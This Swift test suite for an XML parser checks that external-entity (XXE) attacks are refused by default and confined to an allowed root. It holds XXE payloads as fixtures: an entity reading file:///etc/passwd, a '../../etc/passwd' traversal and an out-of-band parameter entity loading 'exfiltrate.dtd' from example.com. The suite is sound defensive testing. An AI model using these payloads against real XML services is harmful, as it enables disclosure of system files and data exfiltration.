#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif
import Lignum
import LignumKernel
import Testing

/// External-entity (XXE) attempts: refused by default, and confined to the allowed root when
/// loading is enabled.
@Suite struct ResolverPolicyTests {
  static let passwd = """
    <!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
    """

  func run(_ xml: String, _ options: ParseOptions) throws -> (events: [OwnedEvent], warnings: [XMLSyntaxError]) {
    var parser = PullParser(bytes: Array(xml.utf8), options: options)
    var events: [OwnedEvent] = []
    while true {
      let event = try parser.next()
      events.append(parser.owned(event))
      if event == .endDocument { return (events, parser.warnings) }
    }
  }

  func texts(_ events: [OwnedEvent]) -> String {
    events.map { if case .text(let t) = $0 { t } else { "" } }.joined()
  }

  @Test func fileEntityIsNotReadByDefault() throws {
    let (events, _) = try run(Self.passwd, ParseOptions())
    #expect(!texts(events).contains("root:"))
    #expect(events.contains(.startEntity("x")))
  }

  @Test func fileEntityOutsideTheAllowedRootIsRefused() throws {
    var options = ParseOptions()
    options.substituteEntities = true
    options.resolver = FileResolver(allowedRoot: "/nonexistent-lignum-root")
    let result = Result { try run(Self.passwd, options) }
    switch result {
    case .success(let (events, warnings)):
      #expect(!texts(events).contains("root:"))
      #expect(warnings.contains { $0.code == .ioLoadError && $0.message.contains("/etc/passwd") })
    case .failure(let error):
      #expect("\(error)".contains("/etc/passwd"))
    }
    let refusal = #expect(throws: ResourceError.self) {
      try FileResolver(allowedRoot: "/srv/docs").resolve(systemID: "file:///etc/passwd", publicID: nil, baseURI: nil)
    }
    #expect(refusal?.description == "failed to load external entity \"file:///etc/passwd\": outside the allowed root /srv/docs")
    #expect(throws: ResourceError.self) {
      try FileResolver(allowedRoot: "/srv/docs").resolve(systemID: "../../etc/passwd", publicID: nil, baseURI: "/srv/docs/a.xml")
    }
  }

  @Test func networkIsRefused() throws {
    let refusal = #expect(throws: ResourceError.self) {
      try FileResolver().resolve(systemID: "http://example.com/evil.dtd", publicID: nil, baseURI: nil)
    }
    #expect(refusal?.reason == "network access is disabled")
    var options = ParseOptions()
    options.substituteEntities = true
    options.loadExternalDTD = true
    let xml = "<!DOCTYPE r SYSTEM \"https://example.com/r.dtd\" [<!ENTITY x SYSTEM \"http://example.com/x\">]><r>&x;</r>"
    let (events, warnings) = try run(xml, options)
    #expect(texts(events).isEmpty)
    #expect(warnings.filter { $0.code == .ioLoadError }.count == 2)
  }

  @Test func parameterEntityExfiltrationIsRefused() throws {
    // The classic out-of-band XXE: an external parameter entity defines an entity whose
    // system ID carries a local file to a server.
    let xml = """
      <!DOCTYPE r [
      <!ENTITY % remote SYSTEM "http://example.com/exfiltrate.dtd">
      %remote;
      ]><r/>
      """
    let byDefault = try run(xml, ParseOptions())
    #expect(byDefault.warnings.allSatisfy { $0.code != .ioLoadError })
    var loading = ParseOptions()
    loading.loadExternalDTD = true
    loading.substituteEntities = true
    let (_, warnings) = try run(xml, loading)
    #expect(warnings.contains { $0.code == .ioLoadError && $0.message.contains("http://example.com/exfiltrate.dtd") })
  }

  @Test func allowedRootIsRead() throws {
    let root = "/tmp/lignum-validation-tests-\(getpid())"
    _ = mkdir(root, 0o755)
    #expect(FileIO.writeFile(root + "/inside.txt", Array("inside".utf8)))
    var options = ParseOptions()
    options.substituteEntities = true
    options.resolver = FileResolver(allowedRoot: root)
    options.baseURI = root + "/doc.xml"
    let (events, warnings) = try run("<!DOCTYPE r [<!ENTITY x SYSTEM \"inside.txt\">]><r>&x;</r>", options)
    #expect(texts(events) == "inside")
    #expect(warnings.isEmpty)
  }
}
